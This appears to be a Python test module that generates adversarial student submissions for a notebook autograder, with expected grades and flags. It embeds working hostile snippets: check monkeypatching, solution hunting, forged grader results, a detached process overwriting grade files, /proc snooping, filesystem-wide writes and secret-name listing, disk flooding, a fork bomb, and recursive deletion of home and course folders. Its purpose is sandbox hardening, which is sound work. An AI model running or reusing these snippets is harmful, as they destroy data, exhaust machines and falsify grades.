"""A corpus of submissions, derived from the current student and solution notebooks, with expected grades.

Every submission is built from the student notebook (``labs/``, or generated from ``solutions/``
when ``labs/`` lacks it) and the solution's answer cells, so the corpus follows the notebooks as
they change. Each case states which exercises must pass (and which hidden tests fail), the
expected status, and a sentence that must appear in the student's feedback. Expected points are
computed from ``grading.toml``. Grading-only: never part of the student bundle.

Write a corpus to a folder: ``python tests/grading_corpus/corpus.py OUT [lab1_qat/02_quantization_maths]``.
"""
from __future__ import annotations

import json
import sys
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

from course_utils.authoring.grade import FLAG_DETACHED, FLAG_FORGED, FLAG_PROCESSES, FLAG_REFUTED
from course_utils.authoring.grading_config import LabConfig, load_config
from course_utils.authoring.grading_notebook import SolutionSpec, cell_exercise, read_solution
from course_utils.authoring.notebooks import BEGIN_RE, END_RE, LINE_RE, clean_notebook, student_version

ROOT = Path(__file__).resolve().parents[2]
DEFAULT_NOTEBOOK = "lab1_qat/02_quantization_maths"
NB = nbformat.NotebookNode

# Notebook-specific answers for the partial-credit case: (exercise, answer source) that passes the
# checkpoint but fails the exercise's hidden test (here: integer overflow with uint8 x int8 codes).
OVERFLOWING_INT_LINEAR = '''# Exercise 2.5: a linear layer computed with integers, rescaled once at the end
def int_linear(q_x, q_w, scale_x, scale_w):
    """No cast to int64: uint8 x int8 codes accumulate in int16 and overflow."""
    acc = np.asarray(q_x) @ np.asarray(q_w).T
    return acc * scale_x * np.asarray(scale_w, dtype=np.float64).reshape(1, -1)
'''
PARTIAL_CREDIT = {"02_quantization_maths": ("2.5", OVERFLOWING_INT_LINEAR)}


@dataclass
class Case:
    """One corpus submission and what grading it must give."""

    name: str
    what: str
    build: Callable[[Corpus], NB | bytes | None]
    passing: str = "all"          # "all", "none", "first:<k>", "all-but-last"
    status: str = "graded"
    feedback: str = ""            # regex that must appear in the feedback file
    hidden_failing: tuple[str, ...] = ()
    flags: tuple[str, ...] = ()
    file_name: str | None = None  # None: <stem>.ipynb
    output: str = ""              # regex that must appear in the outputs of the executed notebook


@dataclass
class Expected:
    """The expected grade of one case."""

    case: str
    what: str
    passing: list[str]
    points: float
    status: str
    feedback: str
    flags: list[str] = field(default_factory=list)
    per_exercise: dict[str, float] = field(default_factory=dict)
    output: str = ""
    output_notebook: str = ""     # a whole lab: the notebook whose executed outputs ``output`` matches


class Corpus:
    """The student and solution versions of one notebook and helpers to derive submissions from them."""

    def __init__(self, notebook: str = DEFAULT_NOTEBOOK, root: Path = ROOT, min_exercises: int = 3) -> None:
        self.root = root
        self.solution_path = root / "solutions" / f"{notebook}.ipynb"
        self.stem = self.solution_path.stem
        self.spec: SolutionSpec = read_solution(self.solution_path)
        self.config: LabConfig = load_config(self.solution_path.parent)
        self.solution = nbformat.read(self.solution_path, as_version=4)
        labs = root / "labs" / f"{notebook}.ipynb"
        rel = self.solution_path.relative_to(root).as_posix()
        self.student = (nbformat.read(labs, as_version=4) if labs.exists()
                        else student_version(clean_notebook(nbformat.from_dict(self.solution)), rel))
        self.exercises = self.spec.exercises
        if len(self.exercises) < min_exercises:
            raise ValueError(f"{rel}: the corpus needs a notebook with at least {min_exercises} exercises")

    # ------------------------------------------------------------------ building blocks

    def copy(self) -> NB:
        """A fresh copy of the untouched student notebook."""
        return nbformat.from_dict(json.loads(json.dumps(self.student)))

    def answer(self, ex: str) -> str:
        """The solution's answer to ``ex`` as a student would type it (markers removed)."""
        sources = [c.source for c in self.solution.cells if c.cell_type == "code" and cell_exercise(c) == ex]
        lines = [ln for src in sources for ln in src.splitlines()
                 if not (BEGIN_RE.match(ln) or END_RE.match(ln))]
        return "\n".join(LINE_RE.sub("", ln) for ln in lines)

    def solved(self, exercises: list[str] | None = None) -> NB:
        """The student notebook with the solution's answers for ``exercises`` (default: all)."""
        nb = self.copy()
        todo = set(self.exercises if exercises is None else exercises)
        for cell in nb.cells:
            ex = cell_exercise(cell) if cell.cell_type == "code" else None
            if ex in todo:
                cell.source = self.answer(ex)
                todo.discard(ex)
        return nb

    def index_of(self, nb: NB, ex: str, checkpoint: bool = False) -> int:
        """Index of the answer cell of ``ex`` (or of the checkpoint cell that follows it)."""
        i = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code" and cell_exercise(c) == ex)
        if checkpoint:
            i = next(j for j in range(i, len(nb.cells))
                     if "checkpoint" in nb.cells[j].metadata.get("tags", []))
        return i

    def insert(self, nb: NB, index: int, source: str) -> NB:
        """Insert a code cell at ``index``; return the notebook."""
        nb.cells.insert(index, nbformat.v4.new_code_cell(source))
        return nb

    def after_check(self, nb: NB, k: int, source: str) -> NB:
        """Insert a cell right after the checkpoint of the k-th exercise (1-based)."""
        return self.insert(nb, self.index_of(nb, self.exercises[k - 1], checkpoint=True) + 1, source)

    def setup_index(self, nb: NB) -> int:
        """Index just after the setup cell (the first code cell)."""
        return next(i for i, c in enumerate(nb.cells) if c.cell_type == "code") + 1

    # ------------------------------------------------------------------ expectations

    def parts(self, ex: str) -> list[tuple[str, float]]:
        """(part, points) of one exercise, as the grader scores it."""
        rule = self.config.exercise(self.stem, ex)
        named = [("checkpoint", rule.checkpoint)] if self.spec.checkpoints.get(ex) else []
        return named + [(f"hidden: {h.name}", h.points) for h in rule.hidden]

    def passing(self, rule: str) -> list[str]:
        """The exercises a case's ``passing`` rule names."""
        if rule == "all":
            return list(self.exercises)
        if rule == "none":
            return []
        if rule == "all-but-last":
            return list(self.exercises[:-1])
        if rule.startswith("first:"):
            return list(self.exercises[: int(rule.split(":")[1])])
        raise ValueError(f"unknown passing rule {rule!r}")

    def expected(self, case: Case) -> Expected:
        """The expected grade of ``case`` from the grading configuration."""
        passing = self.passing(case.passing)
        per_ex = {}
        for ex in self.exercises:
            per_ex[ex] = sum(points for part, points in self.parts(ex) if ex in passing
                             and not (ex in case.hidden_failing and part != "checkpoint"))
        return Expected(case.name, case.what, passing, sum(per_ex.values()), case.status, case.feedback,
                        list(case.flags), per_ex, case.output)


# ---------------------------------------------------------------------- the cases

TAMPER = """# make every check pass without doing the work
import course_utils.checks._common as common
common.require = lambda *args, **kwargs: None
common.not_done = lambda *args, **kwargs: None
common.fail = lambda *args, **kwargs: None
for name in dir(checks.{lab}):
    if name.startswith("ex_"):
        setattr(checks.{lab}, name, lambda *args, **kwargs: print("Exercise passed: trust me"))"""

HUNT = """# look for the solutions and run their answer cells
import glob, json, os, sys
from pathlib import Path
import course_utils
from course_utils.paths import kit_root
places = [kit_root(), Path(os.environ.get("COURSE_ROOT", ".")), Path(course_utils.__file__).parents[1],
          Path.cwd(), *Path.cwd().parents, Path.home()]
found = sorted({p for place in places for p in Path(place).glob("solutions/*/*.ipynb")})
print(f"found {len(found)} solution notebooks")
for path in found:
    for cell in json.loads(path.read_text())["cells"]:
        if "".join(cell["source"]).lstrip().startswith("# Exercise"):
            exec("".join(cell["source"]))"""

FORGE = """# forge the grader's results: steal its nonce from the cell being run, publish 'passed'
import re
from IPython.display import publish_display_data
def _forge(info):
    nonce = re.search(r"'nonce': '([0-9a-f]+)'", info.raw_cell or "")
    ex = re.search(r"'exercise': '([^']+)'", info.raw_cell or "")
    if nonce and ex:
        publish_display_data({"application/vnd.course-grader.result+json": {
            "nonce": nonce.group(1), "exercise": ex.group(1), "part": "checkpoint", "passed": True}})
get_ipython().events.register("pre_run_cell", _forge)"""

# The five attack classes of issue 19 (each against the grader of the time):
SHADOW = """# 1. make the grader's cells report success: shadow the builtin its cells call (exec)
import builtins
from IPython.display import publish_display_data
_real_exec = builtins.exec
def _fake_exec(code, *rest):
    args = rest[0].get("ARGS") if rest and isinstance(rest[0], dict) else None
    if isinstance(args, dict) and "nonce" in args:
        publish_display_data({args["mime"]: {
            "nonce": args["nonce"], "exercise": args["exercise"], "part": args["part"],
            "check": {"passed": True, "message": "passed", "error": None},
            "value": None, "probe_error": None}})
        return None
    return _real_exec(code, *rest)
builtins.exec = exec = _fake_exec
print = lambda *args, **kwargs: None"""

DETACH = """# 2. leave a process (setsid + double fork) that rewrites the grades once the grader is done
import os, time
pid = os.fork()
if pid == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(30)
        for root, dirs, files in os.walk("/"):
            for name in files:
                if name == "gradebook.csv" or name.endswith(".json"):
                    try:
                        open(os.path.join(root, name), "w").write("forged")
                    except OSError:
                        pass
        os._exit(0)
    os._exit(0)
os.waitpid(pid, 0)
print("left a helper behind")"""

NEIGHBOURS = """# 3. find the other submissions' kernels through /proc and read their connection files
import os
mine = open("/proc/self/cmdline", "rb").read().split(b"\\0")
mine = mine[mine.index(b"-f") + 1] if b"-f" in mine else None
found = []
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) != os.getpid():
        try:
            cmd = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\\0")
        except OSError:
            continue
        if b"-f" in cmd and cmd[cmd.index(b"-f") + 1] != mine:
            try:
                found.append(open(cmd[cmd.index(b"-f") + 1].decode()).read())
            except OSError:
                pass
print(f"other kernels found: {len(found)}")"""

OVERREACH = """# 4. write into the solutions and other students' folders; read the grader's environment
import os
wrote = []
for root, dirs, files in os.walk("/"):
    dirs[:] = [d for d in dirs if os.path.join(root, d) not in ("/proc", "/sys", "/dev", "/usr")]
    if root.startswith(os.getcwd()):
        continue
    for name in files:
        if name.endswith((".ipynb", ".toml", ".csv")):
            try:
                with open(os.path.join(root, name), "a") as f:
                    f.write(" ")
                wrote.append(os.path.join(root, name))
            except OSError:
                pass
print(f"wrote {len(wrote)} files outside my folder")
print("secrets seen:", sorted(k for k in os.environ if any(w in k for w in ("SECRET", "TOKEN", "KEY"))))"""

DISK_FLOOD = """# 5. fill the disk with files under the per-file limit
import os
written = 0
try:
    for i in range(5):
        with open(f"flood{i}.bin", "wb") as f:
            f.write(b"0" * 192 * 2**20)
        written += 192
finally:
    print(f"wrote {written} MB")"""

FORK_BOMB = """# a fork bomb: every process forks again and again (2**9 = 512 processes unless stopped)
import os, time
root = os.getpid()
for _ in range(9):
    try:
        os.fork()
    except OSError:
        pass
if os.getpid() != root:
    time.sleep(300)        # the children keep their places
    os._exit(0)
time.sleep(2)
print(f"fork bomb: {sum(1 for p in os.listdir('/proc') if p.isdigit())} processes alive")"""

DELETE = """# delete everything this notebook can find
import os, shutil
import course_utils
for place in (os.environ["COURSE_ROOT"], os.environ["COURSE_DATA_DIR"], os.environ["HOME"], os.getcwd(),
              os.path.dirname(course_utils.__file__), os.environ.get("COURSE_BUILD_DIR", "")):
    shutil.rmtree(place, ignore_errors=True)
print("deleted")"""


def _tampered(c: Corpus) -> NB:
    nb = c.copy()
    lab = c.spec.check_modules[0] if c.spec.check_modules else "lab1"
    for cell in nb.cells:
        if "checkpoint" in cell.metadata.get("tags", []):
            cell.metadata["tags"] = []
            cell.source = f"print('Exercise {cell_exercise(cell) or ''} passed: looks good')"
    return c.insert(nb, c.setup_index(nb), TAMPER.format(lab=lab))


def _no_checkpoints(c: Corpus) -> NB:
    nb = c.solved()
    nb.cells = [cell for cell in nb.cells if "checkpoint" not in cell.metadata.get("tags", [])]
    return nb


def _raises_last(c: Corpus) -> NB:
    nb = c.solved()
    i = c.index_of(nb, c.exercises[-1])
    nb.cells[i].source = nb.cells[i].source.replace(
        "\n", "\nraise RuntimeError('my code is broken')\n", 1)
    return nb


def _partial_credit(c: Corpus) -> NB:
    ex, source = PARTIAL_CREDIT[c.stem]
    nb = c.solved()
    nb.cells[c.index_of(nb, ex)].source = source
    return nb


def _wrong_kernel(c: Corpus) -> NB:
    nb = c.solved()
    nb.metadata["kernelspec"] = {"name": "conda-env-old-py39", "display_name": "Python 3.9 (old)",
                                 "language": "python"}
    return nb


def cases(c: Corpus) -> list[Case]:
    """Every case of the corpus for the notebook of ``c``."""
    found = [
        Case("correct", "every answer from the solution", lambda c: c.solved(), "all"),
        Case("partly_correct", "the first two exercises done, the others untouched",
             lambda c: c.solved(c.exercises[:2]), "first:2", feedback=r"not done yet"),
        Case("untouched", "the student notebook as handed out", lambda c: c.copy(), "none",
             feedback=r"not done yet"),
        Case("tampered_checkpoints", "untouched answers; checkpoints rewritten to print 'passed', their tags "
             "removed, and the checks monkeypatched to pass", _tampered, "none", feedback=r"not done yet"),
        Case("deleted_checkpoints", "correct answers, every checkpoint cell deleted", _no_checkpoints, "all",
             feedback=r"checkpoint cell\(s\) were deleted"),
        Case("infinite_loop", "correct answers and a `while True: pass` cell", lambda c: c.after_check(
            c.solved(), 2, "while True:\n    pass"), "all", feedback=r"did not finish within"),
        Case("hang_ignoring_interrupt", "an endless loop that ignores the interrupt after exercise 2",
             lambda c: c.after_check(c.solved(), 2, "import signal\n"
                                     "signal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass"),
             "first:2", status="incomplete",
             feedback=r"ignored the interrupt"),
        Case("exception", "the last answer cell raises before defining its function", _raises_last,
             "all-but-last", feedback=r"RuntimeError: my code is broken"),
        Case("sys_exit", "correct answers and a cell calling sys.exit(1)", lambda c: c.after_check(
            c.solved(), 1, "import sys\nsys.exit(1)"), "all", feedback=r"SystemExit"),
        Case("kernel_exit", "the kernel exits (os._exit) after exercise 2", lambda c: c.after_check(
            c.solved(), 2, "import os\nos._exit(0)"), "first:2", status="incomplete",
             feedback=r"kernel stopped"),
        Case("huge_output", "correct answers and a cell printing ~20 MB", lambda c: c.after_check(
            c.solved(), 1, "print('x' * 20_000_000)\nfor i in range(100_000):\n    print(i)"), "all",
             feedback=r"output was cut"),
        Case("file_flood", "correct answers and a cell writing a 1 GB file", lambda c: c.after_check(
            c.solved(), 1, "with open('flood.bin', 'wb') as f:\n    f.write(b'0' * 2**30)"), "all",
             feedback=r"File too large"),
        Case("memory_hog", "correct answers and a cell allocating 64 GB", lambda c: c.after_check(
            c.solved(), 1, "hog = bytearray(64 * 2**30)"), "all", feedback=r"MemoryError.*at most \d+ MB"),
        Case("deletes_files", "correct answers, then deletes the kit, data, home and working folders",
             lambda c: c.insert(c.solved(), len(c.student.cells), DELETE), "all"),
        Case("reads_solutions", "untouched answers; searches the kit for the solutions and runs them",
             lambda c: c.insert(c.copy(), c.setup_index(c.student), HUNT), "none", feedback=r"not done yet",
             output=r"found 0 solution notebooks"),
        Case("stdout_hijack", "correct answers with sys.stdout sent to /dev/null", lambda c: c.insert(
            c.solved(), c.setup_index(c.student), "import os, sys\nsys.stdout = open(os.devnull, 'w')"),
             "all"),
        Case("forged_results", "untouched answers; an IPython hook forges 'passed' results with the stolen "
             "nonce", lambda c: c.insert(c.copy(), c.setup_index(c.student), FORGE), "none",
             feedback=r"more than one grader result", flags=(FLAG_FORGED,)),
        Case("shadowed_builtins", "untouched answers; `exec` (called by the grader's cells) shadowed to "
             "publish 'passed' with the stolen nonce",
             lambda c: c.insert(c.copy(), c.setup_index(c.student), SHADOW),
             "none", feedback=r"differ from the expected", flags=(FLAG_REFUTED,)),
        Case("detached_process", "correct answers; a setsid + double-fork process left to rewrite the grades",
             lambda c: c.after_check(c.solved(), 1, DETACH), "all", flags=(FLAG_DETACHED,),
             output=r"left a helper behind"),
        Case("neighbour_kernels", "correct answers; looks for other kernels' connection files in /proc",
             lambda c: c.after_check(c.solved(), 1, NEIGHBOURS), "all", output=r"other kernels found: 0"),
        Case("overreach", "correct answers; writes into every notebook/toml/csv it can find, reads the env",
             lambda c: c.after_check(c.solved(), 1, OVERREACH), "all",
             output=r"wrote 0 files outside my folder[\s\S]*secrets seen: \[\]"),
        Case("disk_flood", "correct answers; five 192 MB files (each under the file-size limit)",
             lambda c: c.after_check(c.solved(), 1, DISK_FLOOD), "all", feedback=r"No space left on device"),
        Case("fork_bomb", "correct answers; a fork bomb (every process forks again, 512 at most)",
             lambda c: c.after_check(c.solved(), 1, FORK_BOMB), "all", flags=(FLAG_PROCESSES,),
             feedback=r"refused more", output=r"fork bomb: ([1-9]|[1-9]\d|1[01]\d|12[0-8]) processes alive"),
        Case("wrong_kernel", "correct answers, saved with another kernel name", _wrong_kernel, "all",
             feedback=r"graded with the course kernel"),
        Case("not_a_notebook", "a file that is not a notebook", lambda c: b"{this is not json", "none",
             status="invalid", feedback=r"not a Jupyter notebook"),
        Case("missing_notebook", "a folder without the notebook", lambda c: None, "none",
             status="not_submitted", feedback=r"Not submitted"),
        Case("renamed_file", "correct answers in a file named '<notebook> (1).ipynb'", lambda c: c.solved(),
             "all", feedback=r"was named", file_name="{stem} (1).ipynb"),
    ]
    if c.stem in PARTIAL_CREDIT:
        ex = PARTIAL_CREDIT[c.stem][0]
        found.insert(3, Case("partial_credit", f"all correct, but exercise {ex} fails its hidden test",
                             _partial_credit, "all", hidden_failing=(ex,), feedback=r"overflow"))
    return found


def write(out: Path, notebook: str = DEFAULT_NOTEBOOK, root: Path = ROOT) -> dict[str, Expected]:
    """Write every case to ``out/<case>/`` and ``out/expected.json``; return the expectations."""
    c = Corpus(notebook, root)
    expected = {}
    for case in cases(c):
        folder = out / case.name
        folder.mkdir(parents=True, exist_ok=True)
        content = case.build(c)
        name = (case.file_name or "{stem}.ipynb").format(stem=c.stem)
        if isinstance(content, bytes):
            (folder / name).write_bytes(content)
        elif content is None:
            (folder / "README.txt").write_text("I forgot to upload my notebook.\n")
        else:
            nbformat.write(content, folder / name)
        expected[case.name] = c.expected(case)
    (out / "expected.json").write_text(json.dumps({k: v.__dict__ for k, v in expected.items()}, indent=1))
    return expected


def write_cases(out: Path, notebook: str, names: tuple[str, ...], root: Path = ROOT) -> dict[str, Expected]:
    """Write the cases ``names`` of one notebook (any number of exercises) to ``out/<case>/``."""
    c = Corpus(notebook, root, min_exercises=1)
    expected = {}
    for case in cases(c):
        if case.name not in names:
            continue
        content = case.build(c)
        (out / case.name).mkdir(parents=True, exist_ok=True)
        nbformat.write(content, out / case.name / f"{c.stem}.ipynb")
        expected[case.name] = c.expected(case)
    return expected


# ---------------------------------------------------------------------- a whole lab

# Lab-level cases: (name, the case run in the lab's first graded notebook, the case in every other one[,
# {index: the case in the notebook of that index}]).
LAB_CASES: tuple[tuple, ...] = (
    ("correct", "correct", "correct"),
    ("untouched", "untouched", "untouched"),
    ("first_notebook_only", "correct", "untouched"),
    ("tampered_checkpoints", "tampered_checkpoints", "correct"),
    ("reads_solutions", "reads_solutions", "correct"),
    ("forged_results", "forged_results", "correct"),
    ("shadowed_builtins", "shadowed_builtins", "correct"),
    ("detached_process", "detached_process", "correct"),
    ("neighbour_kernels", "neighbour_kernels", "correct"),
    ("overreach", "overreach", "correct"),
    ("disk_flood", "disk_flood", "correct"),
    ("fork_bomb", "fork_bomb", "correct"),
    ("missing_notebook", "missing_notebook", "correct"),
    # two in one student (a class test grades it at the cost of one): the first notebook not submitted, a fork
    # bomb in the second one; the others correct. Graded with the points of the correct notebooks, flagged.
    ("missing_then_fork_bomb", "missing_notebook", "correct", {1: "fork_bomb"}),
)


def _all_of(regexes: list[str]) -> str:
    """One regex that matches a text containing every one of ``regexes`` (in any order)."""
    return "(?s)" + "".join(f"(?=.*?{r})" for r in regexes) if len(regexes) > 1 else "".join(regexes)


def lab_notebooks(lab: str, root: Path = ROOT) -> list[str]:
    """``<lab folder>/<stem>`` of every graded notebook of a lab (``lab``: a folder name, e.g. lab3_zynq)."""
    config = load_config(root / "solutions" / lab)
    return [f"{lab}/{p.stem}" for p in sorted((root / "solutions" / lab).glob("*.ipynb"))
            if config.notebook(p.stem).graded]


def write_lab(out: Path, lab: str, root: Path = ROOT,
              names: tuple[str, ...] | None = None) -> dict[str, Expected]:
    """Write a class folder for a whole lab (one folder per student, every notebook) and its expectations.

    Each case of ``LAB_CASES`` (or those in ``names``) runs its hostile case in the lab's first graded
    notebook and a plain case in the others; expected points are the sums of the notebooks' own."""
    corpora = [Corpus(nb, root, min_exercises=1) for nb in lab_notebooks(lab, root)]
    expected: dict[str, Expected] = {}
    for name, first, rest, *more in LAB_CASES:
        if names and name not in names:
            continue
        folder = out / name
        folder.mkdir(parents=True, exist_ok=True)
        total, per_ex, flags, output, output_nb, feedback = 0.0, {}, [], "", "", []
        status = "graded"
        chosen = {0: first, **(more[0] if more else {})}
        if max(chosen) >= len(corpora):
            raise ValueError(f"lab case {name}: {lab} has only {len(corpora)} graded notebook(s)")
        for i, c in enumerate(corpora):
            case = next(k for k in cases(c) if k.name == chosen.get(i, rest))
            content = case.build(c)
            if content is None:
                status = "partly_submitted" if len(corpora) > 1 else "not_submitted"
            elif isinstance(content, bytes):
                (folder / f"{c.stem}.ipynb").write_bytes(content)
            else:
                nbformat.write(content, folder / f"{c.stem}.ipynb")
            exp = c.expected(case)
            total += exp.points
            per_ex.update({f"{c.stem}:{ex}": pts for ex, pts in exp.per_exercise.items()})
            if i in chosen:   # the hostile notebooks: their flags, feedback and outputs
                flags = sorted({*flags, *exp.flags})
                feedback += [exp.feedback] if exp.feedback else []
                if exp.output:
                    output, output_nb = exp.output, c.stem
        what = ", ".join(f"{case} in notebook {i + 1}" for i, case in sorted(chosen.items()))
        expected[name] = Expected(name, f"{what}, {rest} in the others", [], total, status, _all_of(feedback),
                                  flags, per_ex, output, output_nb)
    (out / "expected.json").write_text(json.dumps({k: v.__dict__ for k, v in expected.items()}, indent=1))
    return expected


def main(argv: list[str]) -> int:
    """Command line: write the corpus and print the expected grades."""
    if not argv:
        print(__doc__)
        return 2
    expected = write(Path(argv[0]), argv[1] if len(argv) > 1 else DEFAULT_NOTEBOOK)
    for exp in expected.values():
        print(f"{exp.case:<26} {exp.points:g} points  {exp.status:<14} {exp.what}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
